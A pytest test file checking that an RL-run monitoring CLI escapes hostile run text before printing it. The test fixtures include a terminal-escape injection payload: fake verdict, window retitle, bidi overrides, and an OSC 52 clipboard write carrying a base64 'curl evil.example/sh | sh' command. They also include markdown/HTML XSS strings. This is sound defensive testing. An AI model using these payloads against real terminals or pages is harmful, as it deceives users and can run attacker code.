"""Hostile run text never reaches a terminal raw: every command prints it through one
sanitiser (``safe.py``), as visible escapes."""

from __future__ import annotations

import itertools
import json
from pathlib import Path

import pytest

from dashboard_runs import append_steps, make_run, step_record, write_run_json
from rlvitals import safe
from rlvitals.cli import main

# What a crafted run.json did in a real terminal (adversarial F01): clear the screen, paint a
# fake green verdict, retitle the window, write the clipboard (OSC 52), a one-byte C1 CSI, and
# a right-to-left override that reorders what follows.
ATTACK = (
    "\x1b[2J\x1b[H\x1b[32mverdict: LEARNING (all checks ok)\x1b[0m"
    "\x1b]0;PWNED\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"
    "\x9b31m safe\u202etxt.exe\u2066x\u2069\u200e\r"
)
RAW = ["\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069", "\u200e", "\r"]


def _hostile_run(tmp_path: Path) -> Path:
    d = make_run(tmp_path, "evil", 30, status="running")
    write_run_json(d, "stopped", name="run" + ATTACK, stop_reason="guard" + ATTACK)
    # A metric name carrying the attack too (metrics --all shows original names).
    append_steps(d, [step_record(30, 0.0, **{"custom/x" + ATTACK: 1.0})])
    return d


def _assert_clean(text: str) -> None:
    for ch in RAW:
        assert ch not in text, f"{ch!r} reached the terminal"


@pytest.mark.parametrize(
    "argv",
    [
        ["check"],
        ["check", "--format", "markdown"],
        ["metrics"],
        ["metrics", "--all"],
        ["metrics", "--all", "--json"],
        ["check", "--json"],
        ["report", "--json"],
        ["transcripts"],
        ["formats", "--explain"],
        ["formats", "--json", "--explain"],
    ],
)
def test_commands_print_hostile_run_text_visibly_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    d = _hostile_run(tmp_path)
    main([*argv, str(d)])
    out, err = capsys.readouterr()
    _assert_clean(out)
    _assert_clean(err)


@pytest.mark.parametrize("json_out", [False, True])
def test_query_and_export_print_hostile_run_text_visibly_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], json_out: bool
) -> None:
    pytest.importorskip("duckdb")
    d = _hostile_run(tmp_path)
    sql = "select run, name, verdict from runs"
    main(["query", str(d), sql, *(["--json"] if json_out else [])])
    main(["export", str(d), "-o", str(tmp_path / ("t" + ATTACK))])
    out, err = capsys.readouterr()
    assert "run" in out
    _assert_clean(out)
    _assert_clean(err)


def test_check_shows_the_stop_reason_as_visible_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    d = _hostile_run(tmp_path)
    main(["check", str(d)])
    out = capsys.readouterr().out
    assert "\\x1b[2J" in out and "\\x1b]52;c;" in out and "\\u202e" in out


def test_report_wrote_line_is_sanitised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    d = _hostile_run(tmp_path)
    assert main(["report", str(d), "-o", str(tmp_path / "r.html")]) == 0
    out = capsys.readouterr().out
    _assert_clean(out)
    assert out.startswith("wrote ") and "\\x1b" in out


def test_reader_warnings_and_errors_are_sanitised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    d = make_run(tmp_path, "w", 10)
    with open(d / "steps.jsonl", "a") as f:
        f.write("not json " + ATTACK + "\n")
    main(["check", str(d)])
    _assert_clean(capsys.readouterr().err)
    assert main(["check", str(tmp_path / ("missing" + ATTACK))]) == 2
    _assert_clean(capsys.readouterr().err)


def test_watch_line_mode_is_sanitised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    d = _hostile_run(tmp_path)
    main(["watch", str(d)])
    out = capsys.readouterr().out
    _assert_clean(out)
    assert "\\x1b" in out


def test_watch_json_lines_keep_the_text_but_escape_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    d = _hostile_run(tmp_path)
    main(["watch", str(d), "--json"])
    out = capsys.readouterr().out
    _assert_clean(out)  # JSON escapes controls as \u001b; bidi characters too
    events = [json.loads(line) for line in out.splitlines()]
    assert events[-1]["event"] == "finished"


def test_one_rule_for_every_surface() -> None:
    s = "a\x1b[31mb\tc\nd\u202ee\x85"
    assert safe.line(s) == "a\\x1b[31mb c d\\u202ee\\x85"
    assert safe.block(s) == "a\\x1b[31mb\tc\nd\\u202ee\\x85"
    assert safe.visible(s) == "a\\x1b[31mb\\x09c\\x0ad\\u202ee\\x85"
    assert safe.markdown("<b>|x|</b>\x1b") == "&lt;b>\\|x\\|&lt;/b>\\\\x1b"
    assert safe.slack("<!channel> a&b <https://x|y>\x1b[2J\u202e") == (
        "&lt;!channel&gt; a&amp;b &lt;https://x|y&gt;[2J"
    )
    assert json.loads(safe.json_for_html(json.dumps("x\u202ey", ensure_ascii=False))) == (
        "x\\u202ey"
    )


def test_next_texts_name_the_real_path_not_run(tmp_path: Path) -> None:
    import io

    from rlvitals.checks.base import Finding, Report
    from rlvitals.views.check import render_markdown, render_text

    f = Finding(
        "transcripts",
        "fail",
        "exploit_suspected",
        "rewarded answers '$'",
        first_step=9,
        action="Read the cited attempts (`rlvitals transcripts RUN --flag answers_disagree`)",
    )
    rep = Report("runs/my run", "exploit_suspected", [f])
    buf = io.StringIO()
    render_text([rep], buf, width=200)
    assert "rlvitals transcripts 'runs/my run' --flag answers_disagree" in buf.getvalue()
    assert " RUN " not in buf.getvalue()
    assert "runs/my run" in render_markdown([rep]).replace("\\", "")


HOSTILE_MD = [
    "pass rate 0.705 -> 0.0325 (steps 12-40), train/reward_mean",
    "<img src=x onerror=alert(1)> <!-- c --> &amp; &#60;b&#62;",
    "**bold** _it_ `code` ~~gone~~ [link](javascript:alert(1)) ![img](http://x/y.png)",
    "a | b \\| c \\",
    "# heading",
    "> quote",
    "- item",
    "12. item",
    "<https://example.com> *x*y_z_",
]


@pytest.mark.parametrize("title", HOSTILE_MD)
def test_markdown_summary_shows_untrusted_text_as_written(title: str) -> None:
    # ``check --format markdown`` rendered by a CommonMark/GFM renderer (markdown-it, as a PR
    # comment or CI summary would be): each cell shows exactly the text it was given, with no
    # tag, link, image, code span or emphasis made from it, and the table keeps its 5 columns.
    from markdown_it import MarkdownIt

    from rlvitals.checks.base import Finding, Report
    from rlvitals.views.check import render_markdown

    rep = Report(title, "drift", [Finding(title, "warn", "drift", title, first_step=3)])
    tokens = (
        MarkdownIt("commonmark")
        .enable("table")
        .enable("strikethrough")
        .parse(render_markdown([rep]))
    )
    # the inline content of the heading and of each table cell (the rest is our own text)
    cells = [
        t
        for prev, t in itertools.pairwise(tokens)
        if t.type == "inline" and prev.type in ("heading_open", "td_open")
    ]
    kinds = {c.type for t in cells for c in t.children or []}
    assert kinds <= {"text"}, (title, kinds)
    texts = ["".join(c.content for c in t.children or []) for t in cells]
    assert texts[0].startswith(f"{title}: ")  # the heading
    assert len(texts) == 1 + 5  # the heading and one row of 5 cells
    assert texts.count(title) == 2  # the check and the finding cells


def test_markdown_numbers_and_arrows_read_plainly() -> None:
    from rlvitals.checks.base import Finding, Report
    from rlvitals.views.check import render_markdown

    title = "pass rate fell 0.705 -> 0.0325 over steps 12-40 (reward_mean)"
    rep = Report("runs/a-b.1", "collapse", [Finding("reward", "fail", "collapse", title)])
    md = render_markdown([rep])
    assert f"| {title} |" in md
    assert "## runs/a-b.1: " in md
